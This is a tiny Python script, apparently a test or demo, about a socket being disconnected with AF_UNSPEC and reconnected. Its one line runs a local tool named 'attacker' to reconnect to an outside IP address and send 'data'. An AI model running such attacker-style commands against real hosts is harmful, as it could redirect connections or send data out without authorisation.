"""A connected socket is set free by AF_UNSPEC and connected anew."""
import subprocess

subprocess.run(["./attacker", "reconnect", "127.0.0.1:9000", "93.184.216.35:9000", "data"])
